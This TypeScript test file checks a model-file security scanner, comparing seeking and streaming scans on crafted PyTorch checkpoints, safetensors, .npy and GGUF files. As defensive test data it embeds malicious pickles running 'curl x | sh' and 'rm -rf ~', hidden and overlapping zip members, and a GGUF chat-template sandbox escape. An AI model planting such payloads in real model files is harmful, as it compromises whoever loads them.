// Local scans that seek: the oracle is the streaming scan. Every file a local scan reads is scanned twice, once
// streaming every byte and once passing by the bytes the scanners say they would only count (scan/ahead.ts), and
// the two file reports (formats, completeness, every finding) and the text kept for the repository checks must be
// equal. The corpus is every fixture file (real-library files, the loaders', formats', compression, fuzz and
// differential corpora); crafted checkpoints with storages past the 1 MiB CRC limit make the seek scan actually pass
// bytes by, including the cases where it must not (hidden bytes between storages, members inside a storage, an HDF5
// superblock inside tensor data) and files that change while they are read.
import { appendFileSync, readdirSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';
import type { FileReport } from '../../src/core/review.js';
import { TextCapture } from '../../src/review/capture.js';
import { examineFiles, type FileReader } from '../../src/review/examine.js';
import { defaultScanFile } from '../../src/review/scan-file.js';
import { localReader } from '../../src/review/sources/local.js';
import { cat, enc, evilPickle, floatData, gguf, npy, safetensors, torchStateDictPickle, u16, u32 } from '../scan/support/fixtures.js';

const FIXTURES = fileURLToPath(new URL('../fixtures', import.meta.url));
const MiB = 1024 * 1024;

interface Run { reports: FileReport[]; texts: Record<string, string | undefined>; read: number; skipped: number }

async function scanOnce(abs: string, display: string, seek: boolean, wrap?: (r: FileReader) => FileReader): Promise<Run> {
  const stats = { read: 0, skipped: 0 };
  const capture = new TextCapture();
  const reader = localReader(() => abs, { seek, stats });
  const reports = await examineFiles([{ path: display, size: statSync(abs).size }], wrap ? wrap(reader) : reader, { scanFile: defaultScanFile, allow: [], capture });
  const texts = Object.fromEntries(capture.paths().map((p) => [p, capture.text(p)]));
  return { reports, texts, ...stats };
}

/** Streams, then seeks, the same file (rewritten before each run when `write` is given). */
async function both(abs: string, display: string, write?: () => void, wrap?: (r: FileReader) => FileReader): Promise<{ stream: Run; seek: Run }> {
  write?.();
  const stream = await scanOnce(abs, display, false, wrap);
  write?.();
  const seek = await scanOnce(abs, display, true, wrap);
  return { stream, seek };
}

function walk(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))
    .flatMap((e) => (e.isDirectory() ? walk(join(dir, e.name)) : e.isFile() ? [join(dir, e.name)] : []));
}

describe('every fixture file: the seek scan reports what the streaming scan reports', () => {
  const files = walk(FIXTURES);
  test('the corpus is the fixture tree', () => {
    expect(files.length).toBeGreaterThan(400);
  });
  test.each(files.map((f) => [relative(FIXTURES, f), f]))('%s', async (display, abs) => {
    const { stream, seek } = await both(abs, display);
    expect(seek.reports).toEqual(stream.reports);
    expect(seek.texts).toEqual(stream.texts);
    expect(seek.read + seek.skipped).toBe(stream.read);
  });
});

// ---------- crafted checkpoints ----------

/** A zip built from pieces in file order: members (stored) and raw bytes between them. */
type Piece = { member: string; data: Uint8Array; localSize?: number; crc?: number } | { raw: Uint8Array };

interface Built { bytes: Uint8Array; dataAt: Map<string, number> }

function localHeader(name: string, data: Uint8Array, size = data.length, crc = crc32(data)): Uint8Array {
  const nb = enc(name);
  return cat(u32(0x04034b50), u16(20), u16(0), u16(0), u16(0), u16(0x21), u32(crc), u32(size), u32(size), u16(nb.length), u16(0), nb);
}

/** `extra`: central entries for local headers placed inside other pieces (absolute offset of the header). */
function assemble(pieces: Piece[], extra: { name: string; at: number; data: Uint8Array }[] = []): Built {
  const out: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  const dataAt = new Map<string, number>();
  let pos = 0;
  const entry = (name: string, data: Uint8Array, at: number, crc = crc32(data)): Uint8Array => {
    const nb = enc(name);
    return cat(u32(0x02014b50), u16(0x031e), u16(20), u16(0), u16(0), u16(0), u16(0x21), u32(crc), u32(data.length), u32(data.length),
      u16(nb.length), u16(0), u16(0), u16(0), u16(0), u32(0), u32(at), nb);
  };
  for (const p of pieces) {
    if ('raw' in p) {
      out.push(p.raw);
      pos += p.raw.length;
      continue;
    }
    const h = localHeader(p.member, p.data, p.localSize ?? p.data.length, p.crc ?? crc32(p.data));
    central.push(entry(p.member, p.data, pos, p.crc));
    out.push(h, p.data);
    dataAt.set(p.member, pos + h.length);
    pos += h.length + p.data.length;
  }
  for (const x of extra) central.push(entry(x.name, x.data, x.at));
  const cd = cat(...central);
  const n = central.length;
  const eocd = cat(u32(0x06054b50), u16(0), u16(0), u16(n), u16(n), u32(cd.length), u32(pos), u16(0));
  return { bytes: cat(...out, cd, eocd), dataAt };
}

const STORAGE = 2 * MiB + 4096;

/** A torch.save-shaped checkpoint with `n` storages of STORAGE bytes (past the 1 MiB CRC limit). */
function checkpoint(n = 4, tweak: (i: number, data: Uint8Array) => Piece[] = (i, data) => [{ member: `archive/data/${i}`, data }]): Piece[] {
  const numel = STORAGE / 4;
  const pkl = torchStateDictPickle(Array.from({ length: n }, (_v, i) => ({ name: `layer${i}.weight`, key: String(i), numel, shape: [numel] })));
  return [
    { member: 'archive/data.pkl', data: pkl },
    { member: 'archive/byteorder', data: enc('little') },
    ...Array.from({ length: n }, (_v, i) => tweak(i, floatData(numel, i))).flat(),
    { member: 'archive/version', data: enc('3\n') },
    { member: 'archive/.data/serialization_id', data: enc('0123456789') }
  ];
}

const checks = (r: Run): string[] => (r.reports[0]?.findings ?? []).map((f) => `${f.check}:${f.severity}`);

describe('crafted checkpoints: the seek scan passes storage by and still reports what streaming reports', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'mg-seek-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const compare = async (name: string, bytes: Uint8Array, wrap?: (abs: string) => (r: FileReader) => FileReader): Promise<{ stream: Run; seek: Run }> => {
    const abs = join(dir, name);
    const r = await both(abs, name, () => writeFileSync(abs, bytes), wrap?.(abs));
    expect(r.seek.reports).toEqual(r.stream.reports);
    expect(r.seek.texts).toEqual(r.stream.texts);
    return r;
  };

  test('a clean checkpoint: equal reports, and nearly every storage byte passed by', async () => {
    const { bytes } = assemble(checkpoint());
    const { stream, seek } = await compare('pytorch_model.bin', bytes);
    expect(stream.reports[0]?.complete).toBe(true);
    expect(stream.reports[0]?.formats).toEqual(['zip', 'pytorch-zip']);
    expect(checks(stream).filter((c) => !c.endsWith(':info'))).toEqual([]);
    expect(stream.read).toBe(bytes.length);
    expect(seek.skipped).toBeGreaterThan(0.9 * bytes.length);
    expect(seek.read + seek.skipped).toBe(bytes.length);
  });

  test('a storage whose local header lies about its size', async () => {
    const { bytes } = assemble(checkpoint(4, (i, data) => [{ member: `archive/data/${i}`, data, ...(i === 1 ? { localSize: data.length - 4096 } : {}) }]));
    const { stream, seek } = await compare('lying-header.bin', bytes);
    expect(checks(stream)).toContain('zip.size-mismatch:high');
    expect(seek.skipped).toBeGreaterThan(0);
  });

  test('a member whose local header sits inside a storage (overlapping members): both readings are scanned', async () => {
    const evil = evilPickle('curl x | sh');
    const inner = cat(localHeader('archive/extra.pkl', evil), evil);
    const withInner = (i: number, data: Uint8Array): Piece[] => {
      if (i !== 2) return [{ member: `archive/data/${i}`, data }];
      const d = data.slice();
      d.set(inner, MiB);
      return [{ member: `archive/data/${i}`, data: d }];
    };
    const first = assemble(checkpoint(4, withInner));
    const at = (first.dataAt.get('archive/data/2') as number) + MiB;
    const { bytes } = assemble(checkpoint(4, withInner), [{ name: 'archive/extra.pkl', at, data: evil }]);
    const { stream, seek } = await compare('overlap.bin', bytes);
    expect(checks(stream)).toContain('zip.overlap:high');
    expect(checks(stream).some((c) => c.endsWith(':critical'))).toBe(true);
    expect(seek.skipped).toBeGreaterThan(0);
  });

  test('hidden bytes between two storages are read and scanned', async () => {
    const gap = cat(evilPickle('rm -rf ~'), new Uint8Array(200_000).fill(0x20));
    const { bytes } = assemble(checkpoint(4, (i, data) => (i === 1 ? [{ member: `archive/data/${i}`, data }, { raw: gap }] : [{ member: `archive/data/${i}`, data }])));
    const { stream, seek } = await compare('gap.bin', bytes);
    expect(checks(stream)).toContain('zip.hidden-data:high');
    expect(checks(stream).some((c) => c.endsWith(':critical'))).toBe(true);
    expect(seek.read).toBeGreaterThan(gap.length);
  });

  test('a storage that starts like a pickle or an executable is read as its sniffed head says', async () => {
    const { bytes } = assemble(checkpoint(4, (i, data) => {
      const d = data.slice();
      if (i === 0) d.set(evilPickle('id'), 0);
      if (i === 3) d.set(cat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), 0);
      return [{ member: `archive/data/${i}`, data: d }];
    }));
    const { stream } = await compare('strong-storage.bin', bytes);
    expect(checks(stream).some((c) => c.startsWith('pickle.'))).toBe(true);
    expect(checks(stream).some((c) => c.startsWith('file.executable') || c.startsWith('executable'))).toBe(true);
  });

  test('an HDF5 superblock at a 512*2^k offset inside tensor data is found (h5py opens the file from there)', async () => {
    const target = 4 * MiB;
    const patch = (i: number, data: Uint8Array, at: number): Piece[] => {
      const d = data.slice();
      if (at >= 0) d.set([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a], at);
      return [{ member: `archive/data/${i}`, data: d }];
    };
    const plain = assemble(checkpoint());
    const owner = [0, 1, 2, 3].find((i) => {
      const s = plain.dataAt.get(`archive/data/${i}`) as number;
      return target >= s && target + 8 <= s + STORAGE;
    }) as number;
    const off = target - (plain.dataAt.get(`archive/data/${owner}`) as number);
    const { bytes } = assemble(checkpoint(4, (i, data) => patch(i, data, i === owner ? off : -1)));
    const { stream, seek } = await compare('late-hdf5.bin', bytes);
    expect(checks(stream)).toContain('hdf5.late-superblock:high');
    expect(seek.skipped).toBeGreaterThan(0);
  });

  test('a small storage (CRC checked) is read whole; its CRC mismatch is reported by both', async () => {
    const small = floatData(64 * 1024, 9);
    const { bytes } = assemble([...checkpoint(2), { member: 'archive/data/9', data: small, crc: crc32(small) ^ 1 }]);
    const { stream } = await compare('small-crc.bin', bytes);
    expect(checks(stream)).toContain('zip.crc-mismatch:high');
  });

  test('documented exception (not of seeking): the CRC-32 of a storage past 1 MiB is checked by neither scan', async () => {
    // torch builds miniz with MINIZ_DISABLE_ZIP_READER_CRC32_CHECKS (pytorch cmake/Dependencies.cmake), so
    // torch.load never checks a storage's CRC; the streaming scan stopped computing it above 1 MiB for that reason,
    // and the seek scan passes those bytes by. A wrong CRC there is no interpretation any loader makes.
    const { bytes } = assemble(checkpoint(2, (i, data) => [{ member: `archive/data/${i}`, data, crc: crc32(data) ^ 1 }]));
    const { stream, seek } = await compare('big-crc.bin', bytes);
    expect(checks(stream)).not.toContain('zip.crc-mismatch:high');
    expect(seek.skipped).toBeGreaterThan(STORAGE);
  });

  test('a file truncated inside a storage it passes by fails closed, as streaming does', async () => {
    const built = assemble(checkpoint());
    const cut = (built.dataAt.get('archive/data/1') as number) + MiB;
    // Truncated after the tail was read (the scan lists the file, reads its tail, then it shrinks).
    const truncating = (abs: string) => (r: FileReader): FileReader => ({
      tail: async (f, k) => {
        const t = await r.tail(f, k);
        truncateSync(abs, cut);
        return t;
      },
      readAll: (fs, plan, done) => r.readAll(fs, plan, done)
    });
    const abs = join(dir, 'truncated.bin');
    const { stream, seek } = await both(abs, 'truncated.bin', () => writeFileSync(abs, built.bytes), truncating(abs));
    for (const r of [stream, seek]) {
      expect(r.reports[0]?.complete).toBe(false);
      expect(checks(r)).toContain('file.size-mismatch:high');
    }
    // Documented difference: streaming learns where the bytes end (inside data/1); the seek scan passed data/1 by
    // and learns it at its next read (the members after it are not there). Both block.
    expect(checks(stream)).toContain('zip.truncated:high');
    expect(checks(seek)).toContain('zip.truncated:high');
  });

  test('a file that grows after it was listed is reported by both', async () => {
    const built = assemble(checkpoint());
    const growing = (abs: string) => (r: FileReader): FileReader => ({
      tail: async (f, k) => {
        const t = await r.tail(f, k);
        appendFileSync(abs, evilPickle('id'));
        return t;
      },
      readAll: (fs, plan, done) => r.readAll(fs, plan, done)
    });
    const { stream, seek } = await compare('growing.bin', built.bytes, growing);
    expect(checks(stream)).toContain('scan.file-changed:high');
    expect(seek.reports).toEqual(stream.reports);
  });

  test('safetensors: tensor data passed by, header and bounds checked; trailing bytes and short files as streaming', async () => {
    const tensors = { a: { dtype: 'F32', shape: [MiB / 2], bytes: 2 * MiB }, b: { dtype: 'F16', shape: [MiB], bytes: 2 * MiB } };
    const good = safetensors(tensors);
    const r1 = await compare('model.safetensors', good);
    expect(r1.stream.reports[0]?.complete).toBe(true);
    expect(r1.seek.skipped).toBeGreaterThan(3 * MiB);
    const trailing = cat(good, evilPickle('id'));
    const r2 = await compare('trailing.safetensors', trailing);
    expect(checks(r2.stream)).toContain('safetensors.trailing-bytes:high');
    const short = good.subarray(0, good.length - MiB);
    const r3 = await compare('short.safetensors', short);
    expect(r3.stream.reports[0]?.complete).toBe(false);
  });

  test('.npy: header read, a numeric body passed by; trailing bytes and a short body as streaming', async () => {
    const good = npy('<f4', [MiB], floatData(MiB, 5));
    const r1 = await compare('weights.npy', good);
    expect(r1.stream.reports[0]?.complete).toBe(true);
    expect(r1.seek.skipped).toBeGreaterThan(3 * MiB);
    const r2 = await compare('trailing.npy', cat(good, evilPickle('id')));
    expect(checks(r2.stream)).toContain('numpy.trailing-bytes:high');
    const r3 = await compare('short.npy', good.subarray(0, good.length - MiB));
    expect(r3.stream.reports[0]?.findings.length).toBeGreaterThan(0);
  });

  test('GGUF: metadata and chat template read, tensor data passed by; a superblock in the data and a broken header as streaming', async () => {
    const header = gguf([['general.architecture', 'str', 'llama'], ['tokenizer.chat_template', 'str', "{{ ''.__class__.__mro__[1].__subclasses__() }}"]], 2);
    const good = cat(header, floatData(MiB, 7));
    const r1 = await compare('model.gguf', good);
    expect(checks(r1.stream).some((c) => c.startsWith('template.'))).toBe(true);
    expect(r1.seek.skipped).toBeGreaterThan(3 * MiB);
    // h5py opens a file whose superblock sits at 512*2^k: the late HDF5 watcher still reads those offsets.
    const withH5 = good.slice();
    withH5.set([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a], MiB);
    const r2 = await compare('polyglot.gguf', withH5);
    expect(r2.stream.reports[0]?.formats).toContain('hdf5');
    // A header the parser gives up on: everything after it is trailing, counted either way.
    const broken = cat(header.subarray(0, 40), floatData(MiB, 3));
    const r3 = await compare('broken.gguf', broken);
    expect(checks(r3.stream)).toContain('gguf.invalid:high');
  });
});
